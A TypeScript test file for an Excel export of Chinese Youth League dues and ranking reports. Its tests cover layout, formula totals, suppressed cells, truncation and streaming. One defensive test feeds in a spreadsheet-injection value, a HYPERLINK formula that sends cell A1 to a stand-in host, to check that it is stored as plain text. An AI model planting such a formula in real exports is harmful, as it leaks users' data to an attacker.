import fs from 'node:fs'
import path from 'node:path'
import { Writable } from 'node:stream'
import ExcelJS from 'exceljs'
import { afterAll, describe, expect, it } from 'vitest'
import { formatOf } from '../../../../jobs/delivery/workbook/cellValue.ts'
import { planReportSheet } from '../../../../jobs/delivery/workbook/reportSheet.ts'
import {
  type ReportWorkbookOptions,
  writeReportWorkbook,
} from '../../../../jobs/delivery/workbook/reportWorkbook.ts'
import { TotalMismatch } from '../../../../jobs/delivery/workbook/totals.ts'
import { writeSheet } from '../../../../jobs/delivery/workbook/writeSheet.ts'
import { REPORT_NAMES } from '../../../../warehouse/catalogue/reports.ts'
import { stated } from '../../../../warehouse/contract/figureState.ts'
import type { ReportAnswer } from '../../../../warehouse/reports/answer.ts'
import { findCell, partsOf, readWorkbook, shownIn } from '../../../support/delivery/readWorkbook.ts'
import { SAMPLE_NOW, sampleReport } from '../../../support/delivery/sampleReports.ts'
import { temporaryDir } from '../../../support/warehouse.ts'

const stamp = { account: 'gz&co', now: SAMPLE_NOW }
const dir = temporaryDir()
afterAll(() => dir.remove())

/** What a report becomes, as the bytes of the file. */
async function fileOf(answer: ReportAnswer, options: ReportWorkbookOptions = {}): Promise<Buffer> {
  const chunks: Buffer[] = []
  const output = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk)
      done()
    },
  })
  await writeReportWorkbook(answer, stamp, output, options)
  return Buffer.concat(chunks)
}

async function sheetOf(answer: ReportAnswer, options: ReportWorkbookOptions = {}) {
  const sheet = (await readWorkbook(await fileOf(answer, options))).worksheets[0]
  if (!sheet) throw new Error('the workbook has no sheet')
  return sheet
}

/** Changes one cell of a report. */
function withCell(answer: ReportAnswer, row: number, column: number, change: object): ReportAnswer {
  return {
    ...answer,
    rows: answer.rows.map((each, i) =>
      i === row
        ? { ...each, cells: each.cells.map((cell, j) => (j === column ? { ...cell, ...change } : cell)) }
        : each,
    ),
  }
}

const dues = sampleReport('dues_collection')

describe('a report as a sheet', () => {
  it('says on top what it shows, for whom, as of when and compared with what', async () => {
    const sheet = await sheetOf(dues)
    expect(sheet.getCell('A1').value).toBe('团费收缴 · 共青团广州市委员会 · 2026年10月')
    expect(sheet.getCell('A2').value).toBe(
      '统计期：2026年10月　口径：发布口径（按期末组织关系，发布后不再变动）　数据截至：2026年11月4日 07:00',
    )
    expect(sheet.getCell('A3').value).toBe(
      '环比：与2026年9月比　同比：与2025年10月比　本年累计：2026年1月至10月，同比与2025年1月至10月比',
    )
    expect(sheet.getCell('A4').value).toBe('导出账号：gz&co　导出时间：2026年11月4日 08:00')
    expect(sheet.getCell('A5').value).toBe(dues.headline)
  })

  it('lists rows that are ranked among their peers below a heading, and still sums them all', async () => {
    const ranked = sampleReport('city_ranking')
    const rows = ranked.rows.map((row, i) =>
      row.kind === 'own' ? row : { ...row, peers: i < 3 ? '县级团委' : '直属团委' },
    )
    const sheet = await sheetOf({ ...ranked, rows })
    const heading = (text: string) => Number(findCell(sheet, text)?.row)
    const first = heading('县级团委')
    expect(heading('直属团委')).toBe(first + 4)
    expect(sheet.getCell(first + 5, 2).value).toBe(rows[3]?.name)
    const total = heading('合计')
    expect(total).toBe(first + 2 + rows.length)
    const members = sheet.getRow(total)
    const sums: string[] = []
    members.eachCell(cell => {
      if (cell.formula) sums.push(cell.formula)
    })
    expect(sums.length).toBeGreaterThan(0)
    for (const sum of sums) expect(sum).toMatch(new RegExp(`^SUM\\([A-Z]+${first}:[A-Z]+${total - 1}\\)$`))
    const alike = {
      ...ranked,
      rows: rows.map(row => (row.kind === 'own' ? row : { ...row, peers: '县级团委' })),
    }
    const plain = await sheetOf(alike)
    expect(() => findCell(plain, '县级团委')).toThrow('has no cell')
  })

  it('has merged headings with units, each figure beside its changes', async () => {
    const sheet = await sheetOf(dues)
    const group = findCell(sheet, '实收（收付实现制）')
    expect(sheet.model.merges).toContain('H6:M6')
    expect(group.address).toBe('H6')
    expect(findCell(sheet, '团费收缴率').address).toBe('E6')
    expect(sheet.model.merges).toContain('E6:G7')
    expect([8, 9, 10].map(column => sheet.getCell(8, column).value)).toEqual(['元', '环比', '同比'])
    expect([5, 6, 7].map(column => sheet.getCell(8, column).value)).toEqual([
      '%',
      '环比\n百分点',
      '同比\n百分点',
    ])
    expect(group.note).toBeUndefined()
    expect(JSON.stringify(findCell(sheet, '团费收缴率').note)).toContain('DUE04')
  })

  it('stays in sight and prints on A4, one page wide, with the headings on every page', async () => {
    const sheet = await sheetOf(dues)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 8 })
    expect(sheet.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '6:8',
    })
    // everything but the ids at the right
    expect(sheet.pageSetup.printArea).toMatch(/^A1:Q\d+$/)
    expect(sheet.headerFooter.oddHeader).toContain('账号：gz&&co')
    expect(sheet.headerFooter.oddFooter).toContain('第 &P 页，共 &N 页')
  })

  it('holds the figures of the answer, money to the fen, by the formats of their columns', async () => {
    const sheet = await sheetOf(dues)
    dues.rows.forEach((row, i) => {
      const [due, , ratio, paid] = row.cells
      expect(sheet.getCell(9 + i, 3).value).toBe(Number(((due?.value ?? 0) / 100).toFixed(2)))
      expect(sheet.getCell(9 + i, 3).numFmt).toBe(formatOf('元'))
      expect(sheet.getCell(9 + i, 5).value).toBe(ratio?.value)
      expect(sheet.getCell(9 + i, 5).numFmt).toBe(formatOf('%'))
      expect(sheet.getCell(9 + i, 6).value).toBeCloseTo((ratio?.mom ?? 0) * 100, 9)
      expect(sheet.getCell(9 + i, 9).value).toBe(paid?.mom)
      expect(sheet.getCell(9 + i, 18).value).toBe(row.id)
    })
    expect(sheet.getCell(20, 2).value).toBe('本级')
    // the tenth row has no base a year ago
    expect(sheet.getCell(18, 10).value).toBe('—')
  })

  it('adds up by a formula whose result is the figure of the warehouse', async () => {
    const sheet = await sheetOf(dues)
    const total = findCell(sheet, '合计')
    const due = sheet.getCell(total.row, 3)
    expect(due.formula).toBe('SUM(C9:C20)')
    expect(due.result).toBe(Number(((dues.total.cells[0]?.value ?? 0) / 100).toFixed(2)))
    // a ratio is no sum
    expect(sheet.getCell(total.row, 5).value).toBe(dues.total.cells[2]?.value)
  })

  it('is not made when the rows do not add up', async () => {
    const wrong = withCell(dues, 2, 1, stated((dues.rows[2]?.cells[1]?.value ?? 0) + 1))
    await expect(fileOf(wrong)).rejects.toThrow(TotalMismatch)
    await expect(fileOf(wrong)).rejects.toThrow(/账单已收.*DUE03.*add up to/)
  })

  it('shows hidden cells as <k, says why, and then has no formula to compute them from', async () => {
    const sheet = await sheetOf(withCell(dues, 2, 1, { state: 'suppressed', value: null, k: 3 }))
    const total = findCell(sheet, '合计')
    expect(sheet.getCell(11, 4).value).toBe('<3')
    expect(sheet.getCell(total.row, 4).formula).toBeUndefined()
    expect(sheet.getCell(total.row, 4).value).toBe(
      Number(((dues.total.cells[1]?.value ?? 0) / 100).toFixed(2)),
    )
    expect(sheet.getCell(total.row, 3).formula).toBe('SUM(C9:C20)')
    expect(sheet.getCell(Number(total.row) + 1, 1).value).toContain('“<3”：少于 3 人')
  })

  it('tells what was published and what is known by now', async () => {
    const sheet = await sheetOf(withCell(dues, 0, 0, { revised: 8_200_005 }))
    const remark = sheet.getCell(Number(findCell(sheet, '合计').row) + 1, 1).value
    expect(remark).toBe('修订：发布后有数据到达，按当前数据：共青团越秀区委员会“应交”为 82,000.05。')
  })

  it.each(REPORT_NAMES)('writes %s with every column of the catalogue', async id => {
    const answer = sampleReport(id)
    const sheet = await sheetOf(answer)
    for (const { title } of answer.columns) expect(findCell(sheet, title)).toBeDefined()
    expect(findCell(sheet, '合计')).toBeDefined()
  })

  it('explains its columns on a second sheet', async () => {
    const sheet = (await readWorkbook(await fileOf(dues))).getWorksheet('指标说明')
    if (!sheet) throw new Error('there is no sheet with the definitions')
    expect(sheet.getRow(3).values).toEqual([
      undefined,
      'DUE01',
      '当月应交团费',
      '元',
      expect.stringContaining('账单'),
    ])
  })
})

describe('text from the source systems', () => {
  const hostile = '=HYPERLINK("http://x.example/?"&A1,"点我")'
  const answer: ReportAnswer = {
    ...dues,
    org: { ...dues.org, name: '@市&<b>' },
    headline: '+1',
    rows: dues.rows.map((row, i) => (i === 0 ? { ...row, name: hostile } : row)),
  }

  it('is stored as text and never as a formula', async () => {
    const parts = partsOf(await fileOf(answer))
    const xml = parts.get('xl/worksheets/sheet1.xml') ?? ''
    // every formula of the file is one of ours
    const formulas = [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map(([, formula]) => formula)
    expect(formulas.length).toBeGreaterThan(0)
    for (const formula of formulas) expect(formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/)
    expect(xml).toMatch(/<c r="B9"[^>]* t="(inlineStr|str|s)"/)
    expect(xml).toContain('&apos;=HYPERLINK')
    expect([...parts.keys()].filter(name => /externalLink|hyperlink/i.test(name))).toEqual([])
    // names in the page header do not become codes of it
    expect(xml).toContain('@市&amp;&amp;&lt;b&gt;')
  })

  it('keeps ids as text, also those that look like numbers or dates', async () => {
    const xml =
      partsOf(
        await fileOf(
          withCell(
            { ...dues, rows: dues.rows.map((row, i) => (i === 0 ? { ...row, id: '18-22' } : row)) },
            0,
            0,
            {},
          ),
        ),
      ).get('xl/worksheets/sheet1.xml') ?? ''
    for (const row of [9, 10, 11])
      expect(xml).toMatch(new RegExp(`<c r="R${row}"[^>]* t="(inlineStr|str|s)"`))
  })
})

describe('many rows', () => {
  const row = dues.rows[0]
  const rows = (count: number) => ({
    count,
    *read() {
      for (let i = 0; i < count; i++) if (row) yield { ...row, id: String(i), name: `第${i}支部` }
    },
  })
  const loose = { ...dues, columns: dues.columns.map(column => ({ ...column, addsUp: false })) }

  it.each([
    [249, 250],
    [250, 250],
  ])('%i rows fit a sheet of %i', async (count, cap) => {
    const sheet = await sheetOf(loose, { rows: rows(count), cap })
    expect(Number(findCell(sheet, '合计').row) - 9).toBe(count)
    expect(sheet.getCell('A5').value).toBe(dues.headline)
  })

  it('one more is cut off, and said at both ends', async () => {
    const sheet = await sheetOf({ ...dues, columns: dues.columns }, { rows: rows(251), cap: 250 })
    expect(sheet.getCell('A5').value).toBe('已截断：仅含前 250 行')
    const total = findCell(sheet, '合计')
    expect(sheet.getCell(Number(total.row) - 1, 1).value).toContain('已截断：共 251 行，本表仅含前 250 行')
    expect(sheet.getCell(Number(total.row) - 2, 2).value).toBe('第249支部')
    expect(sheet.getCell(total.row, 3).formula).toBeUndefined()
  })

  it('are streamed as they are kept in memory', async () => {
    const kept = new ExcelJS.Workbook()
    await writeSheet(kept, planReportSheet(dues, stamp))
    const [streamed, inMemory] = [await sheetOf(dues), kept.worksheets[0]]
    expect(streamed.rowCount).toBe(inMemory?.rowCount)
    streamed.eachRow((each, number) =>
      each.eachCell((cell, column) => {
        const other = inMemory?.getCell(number, column)
        expect(other && shownIn(other)).toEqual(shownIn(cell))
        expect(other?.numFmt).toBe(cell.numFmt)
      }),
    )
    expect(streamed.model.merges.sort()).toEqual(inMemory?.model.merges.sort())
  })

  it('tells how far it is, and stops when told', async () => {
    const seen: number[] = []
    await fileOf(loose, { rows: rows(1_000), onRows: done => seen.push(done) })
    expect(seen).toEqual([250, 500, 750, 1_000])
    const stop = new AbortController()
    const writing = fileOf(loose, {
      rows: rows(100_000),
      signal: stop.signal,
      onRows: () => stop.abort(new Error('cancelled')),
    })
    await expect(writing).rejects.toThrow('cancelled')
  })

  it('never stand in memory: a slow output holds the rows up', async () => {
    let taken = 0
    let release = () => {}
    const output = new Writable({
      highWaterMark: 1_024,
      write(_chunk, _encoding, done) {
        taken++
        if (taken < 3) done()
        else release = done
      },
    })
    let read = 0
    const endless = {
      count: 1_000_000,
      *read() {
        for (; read < 1_000_000; read++) if (row) yield { ...row, name: `第${read * 7919}支部` }
      },
    }
    const stop = new AbortController()
    const writing = writeReportWorkbook(loose, stamp, output, { rows: endless, signal: stop.signal })
    writing.catch(() => {})
    // when nothing moves over many turns of the loop, the rows wait for the output
    for (let before = -1; before !== read || taken < 3; ) {
      before = read
      for (let i = 0; i < 200; i++) await new Promise(resolve => setImmediate(resolve))
    }
    expect(read).toBeLessThan(60_000)
    stop.abort(new Error('enough'))
    release()
    await expect(writing).rejects.toThrow('enough')
  })

  it('fail when the disk is full', async () => {
    const output = fs.createWriteStream('/dev/full')
    await expect(writeReportWorkbook(loose, stamp, output, { rows: rows(20_000) })).rejects.toMatchObject({
      code: 'ENOSPC',
    })
    const missing = fs.createWriteStream(path.join(dir.dir, 'no', 'such', 'folder'))
    await expect(writeReportWorkbook(loose, stamp, missing)).rejects.toMatchObject({ code: 'ENOENT' })
  })
})
